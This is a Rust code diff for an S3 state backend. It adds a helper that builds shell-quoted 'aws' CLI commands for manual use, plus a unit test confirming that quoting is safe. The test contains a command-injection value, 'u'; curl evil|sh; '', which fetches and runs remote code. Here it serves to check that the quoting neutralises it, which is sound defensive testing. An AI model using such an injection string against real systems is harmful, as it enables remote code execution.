@@ -8,6 +8,7 @@ use std::fmt;
 use aws_credential_types::provider::error::CredentialsError;
 use aws_sdk_s3::error::{ProvideErrorMetadata, SdkError};
 use aws_smithy_runtime_api::client::orchestrator::HttpResponse;
+use remote_state_core::shell::quoted;
 use remote_state_core::{Error, ErrorKind};
 
 use crate::config::Origins;
@@ -70,6 +71,13 @@ where
     E: ProvideErrorMetadata + StdError + Send + Sync + 'static,
 {
     failure_by(about, error, |status, code, sentence, region| service(about, status, code, sentence, region))
+}
+
+/// A command of the vendor's tool, for whoever has to do something by hand. What others have named is no more than a word of it.
+pub(crate) fn aws_command(words: &[&str], region: &str, endpoint: Option<&str>) -> String {
+    let place =
+        ["--region", region].into_iter().chain(endpoint.into_iter().flat_map(|url| ["--endpoint-url", url]));
+    words.iter().copied().chain(place).fold("aws".to_owned(), |command, word| command + " " + &quoted(word))
 }
 
 /// Says of a refused request about versions what it takes to be allowed.
@@ -291,5 +299,18 @@ fn wrong_region(about: About<'_>, sentence: Option<&str>, hinted_region: Option<
         Some(region) => error
             .with_hint(format!("set `region = \"{region}\"`, or pass `--backend-config region={region}`")),
         None => error.with_hint("set `region` to the region of the bucket"),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn command_for_a_person_is_one_command_whatever_a_store_calls_its_upload() {
+        let words = ["s3api", "x", "--upload-id", "u'; curl evil|sh; '"];
+        let command = aws_command(&words, "eu-west-1", Some("http://h/a b"));
+        let place = "--region eu-west-1 --endpoint-url 'http://h/a b'";
+        assert_eq!(command, format!(r"aws s3api x --upload-id 'u'\''; curl evil|sh; '\''' {place}"));
     }
 }
